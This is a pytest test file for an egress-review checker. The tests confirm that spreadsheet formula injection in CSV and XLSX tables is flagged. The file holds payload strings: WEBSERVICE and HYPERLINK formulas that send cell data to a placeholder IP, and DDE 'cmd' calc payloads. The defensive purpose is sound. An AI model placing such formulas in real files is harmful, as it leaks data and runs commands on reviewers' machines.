"""A table whose cells a spreadsheet would run (issue 13, attacked): the request page tells a checker to
download a long table to read it all, and a CSV or XLSX opened in Excel or LibreOffice on the checker's
machine, outside the TRE, would let ``=WEBSERVICE(...)`` or ``=HYPERLINK(...)`` send the other cells to
any host before anything is released. Such a file fails; negative numbers and a bare dash do not."""

from __future__ import annotations

from pathlib import Path

import openpyxl
import pytest

from egress_review.checks.api import check_file

pytestmark = pytest.mark.unit

PAYLOADS = ['=WEBSERVICE("http://203.0.113.9/?d="&A3&B3)', '=HYPERLINK("http://203.0.113.9/"&A3,"details")',
            "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '\t=1+1']


def _csv(tmp_path: Path, cell: str) -> Path:
    path = tmp_path / "table.csv"
    quoted = '"' + cell.replace('"', '""') + '"'
    path.write_text(f"district,employees\nGrefsen,120\n{quoted},340\nSagene,415\nFrogner,512\n")
    return path


@pytest.mark.parametrize("cell", PAYLOADS)
def test_a_formula_cell_in_a_csv_fails(tmp_path, cell):
    report = check_file(_csv(tmp_path, cell), declared_name="table.csv")
    assert report.verdict == "fail" and "formula" in {f.rule for f in report.flags}, report.flags


def test_a_formula_in_a_workbook_fails_though_pandas_reads_only_its_cached_value(tmp_path):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["district", "employees"])
    for row in (["Grefsen", 120], ["Sagene", 340], ["Frogner", 415]):
        sheet.append(row)
    sheet["C2"] = '=WEBSERVICE("http://203.0.113.9/?d="&A2&B2)'
    path = tmp_path / "table.xlsx"
    book.save(path)
    report = check_file(path, declared_name="table.xlsx")
    assert report.verdict == "fail" and "formula" in {f.rule for f in report.flags}, report.flags


def test_negative_numbers_and_dashes_are_not_formulas(tmp_path):
    path = tmp_path / "table.csv"
    path.write_text("district,change,note\nGrefsen,-12,-\nSagene,-3.5,- \nFrogner,+4,ok\nLade,-0.2,\n")
    report = check_file(path, declared_name="table.csv")
    assert "formula" not in {f.rule for f in report.flags}, report.flags
